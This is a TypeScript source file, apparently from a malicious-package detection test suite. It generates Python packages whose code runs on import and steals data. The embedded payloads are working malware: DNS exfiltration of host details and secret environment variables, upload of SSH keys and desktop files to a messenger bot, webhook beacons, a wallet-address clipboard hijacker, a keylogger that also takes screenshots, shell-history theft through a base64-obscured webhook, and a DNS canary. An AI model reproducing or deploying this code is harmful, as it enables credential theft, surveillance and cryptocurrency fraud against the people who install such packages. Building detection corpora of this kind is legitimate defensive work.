import { importingWheel, techniques } from './drafts.ts';
import { base64 } from './encoders.ts';
import type { Draft, Remote, Replay } from './incident.ts';
import { browserCookies, desktopAutomation } from './look-alikes/desktop.ts';
import { errorReporter } from './look-alikes/environment.ts';
import { dnsTools, messengerClient } from './look-alikes/remote.ts';
import { hostIdentity } from './look-alikes/system.ts';
import { browserStealer } from './payloads.ts';
import { py } from './python-text.ts';

const atImport =
  (name: string, code: (c: Remote) => string) =>
  (c: Remote): Draft =>
    importingWheel({ name, version: '0.8.4', about: 'Settings of services', code: code(c) });

const DIG = (c: Remote): string => py`
import base64
import getpass
import os
import subprocess

_facts = "|".join([os.uname().nodename, getpass.getuser(), os.getcwd()]).encode()
_label = base64.b32encode(_facts).decode().rstrip("=").lower()
for _index in range(0, len(_label), 50):
    subprocess.call(
        ["dig", "+short", "%d-%s.${c.host}" % (_index, _label[_index:_index + 50])],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
`;

const PING = (c: Remote): string => py`
import os
import socket

_name = (socket.gethostname() + "-" + os.environ.get("USER", "x")).encode().hex()
os.system("nslookup " + _name[:60] + ".${c.host} >/dev/null 2>&1 || ping -c 1 " + _name[:60] + ".${c.host} >/dev/null 2>&1")
`;

const RESOLVER = (c: Remote): string => py`
import socket

for _name, _value in __import__("os").environ.items():
    if "TOKEN" in _name or "SECRET" in _name:
        _hex = _value.encode().hex()
        for _at in range(0, len(_hex), 60):
            try:
                socket.gethostbyname(_hex[_at:_at + 60] + "." + _name.lower().replace("_", "-") + ".${c.host}")
            except OSError:
                pass
`;

const TELEGRAM = (c: Remote): string => py`
import glob
import os
import requests

_bot = "${c.url('/bot7000000002:AAFexampleexampleexampleexample00001/sendDocument')}"
for _path in glob.glob(os.path.expanduser("~/Desktop/*.txt")) + glob.glob(os.path.expanduser("~/.ssh/id_*")):
    with open(_path, "rb") as _stream:
        requests.post(_bot, data={"chat_id": "6500000001"}, files={"document": _stream})
`;

const WEBHOOK = (c: Remote): string => py`
import getpass
import platform
import requests

requests.post(
    "${c.url('/api/webhooks/1200000000000000001/Qx7exampleexampleexampleexampleexampleexampleexampleexample')}",
    json={
        "username": "inspector",
        "embeds": [{"title": platform.node(), "description": getpass.getuser() + " " + requests.get("https://api.ipify.example").text}],
    },
)
`;

const CLIPPER = (): string => py`
import re
import threading
import time

import pyperclip

_ADDRESSES = {
    re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$"): "bc1qexampleexampleexampleexampleexample00",
    re.compile(r"^0x[a-fA-F0-9]{40}$"): "0x00000000000000000000000000000000000Examp",
    re.compile(r"^T[A-Za-z1-9]{33}$"): "TExampleExampleExampleExampleExample",
}


def _watch():
    last = ""
    while True:
        text = pyperclip.paste()
        if text != last:
            for pattern, ours in _ADDRESSES.items():
                if pattern.match(text):
                    pyperclip.copy(ours)
            last = text
        time.sleep(0.5)


threading.Thread(target=_watch, daemon=True).start()
`;

const SPY = (c: Remote): string => py`
import io
import threading
import time

import pyautogui
import requests
from pynput import keyboard

_keys = []


def _screens():
    while True:
        buffer = io.BytesIO()
        pyautogui.screenshot().save(buffer, "PNG")
        requests.post("${c.url('/upload')}", files={"s": buffer.getvalue()}, data={"k": "".join(_keys)})
        _keys.clear()
        time.sleep(60)


keyboard.Listener(on_press=lambda key: _keys.append(str(key))).start()
threading.Thread(target=_screens, daemon=True).start()
`;

/** The address of the webhook is itself fetched, from an address in base64. */
const SECOND_ORDER = (c: Remote): string => py`
import base64
import getpass
import os
import requests

_where = base64.b64decode("${base64(c.url('/raw/hook.txt'))}").decode()
_hook = requests.get(_where).text.strip()
with open(os.path.expanduser("~/.bash_history"), "rb") as _stream:
    requests.post(_hook, files={"file": (getpass.getuser() + ".txt", _stream)})
`;

/** Nothing is said, but somebody learns that the package was imported. */
const CANARY = (c: Remote): string => py`
import socket

try:
    socket.gethostbyname("confsettle-canary.${c.host}")
except OSError:
    pass
`;

const technique = techniques('https://attack.mitre.org/tactics/TA0010/', 'https://q.resolver-stats.invalid');

export const EXFILTRATION: readonly Replay[] = [
  technique(
    '32a-dns-dig',
    'host facts in the arguments of dig',
    'import sends host, user and folder as labels of names asked with dig',
    atImport('confsettle', DIG),
    { lookAlikes: () => [dnsTools()], needsName: true },
  ),
  technique(
    '32b-dns-nslookup',
    'host facts in an nslookup command line',
    'import sends host and user as labels of names asked with nslookup or ping',
    atImport('confsettle-lite', PING),
    { needsName: true },
  ),
  technique(
    '32c-dns-resolver',
    'tokens in names asked of the resolver',
    'import sends the values of token variables as labels of names that it resolves',
    atImport('confsettle-core', RESOLVER),
    { needsName: true },
  ),
  technique(
    '32d-messenger-bot',
    'keys sent to a messenger bot',
    'import sends text files of the desktop and SSH keys to a bot with an inline token',
    atImport('botsettings', TELEGRAM),
    { remote: 'https://api.messenger-bots.invalid', lookAlikes: () => [messengerClient()] },
  ),
  technique(
    '32e-webhook',
    'host facts posted to a webhook',
    'import posts host, user and address to a webhook with an inline id and token',
    atImport('hooksettings', WEBHOOK),
    { remote: 'https://chat-hooks.invalid', lookAlikes: () => [errorReporter()] },
  ),
  technique(
    '32f-clipper',
    'addresses on the clipboard are replaced',
    'import watches the clipboard and replaces wallet addresses by constants',
    atImport('clipwatch', CLIPPER),
    { remote: '', lookAlikes: () => [desktopAutomation()] },
  ),
  technique(
    '32g-spy',
    'screens and keys sent every minute',
    'import records keys, takes screenshots and posts both to a constant host',
    atImport('meetnotes', SPY),
    { remote: 'https://frames.meeting-notes.invalid' },
  ),
  technique(
    '32h-stealer',
    'browser and messenger data in plain sight',
    'import reads browser profiles, messenger tokens and wallets and posts them',
    atImport('profilekit', browserStealer),
    { remote: 'https://hooks.team-chat.invalid', lookAlikes: () => [browserCookies()] },
  ),
  technique(
    '32i-second-order',
    'a webhook whose address is fetched first',
    'import fetches the address of a webhook from a base64 address and uploads the shell history there',
    atImport('hooksettings-two', SECOND_ORDER),
    { remote: 'https://raw.snippet-host.invalid' },
  ),
  technique(
    '32j-dns-canary',
    'one constant name is resolved at import',
    'import resolves a name of a private domain, which tells its owner who imported the package',
    atImport('confsettle-canary', CANARY),
    { lookAlikes: () => [hostIdentity()], needsName: true },
  ),
];
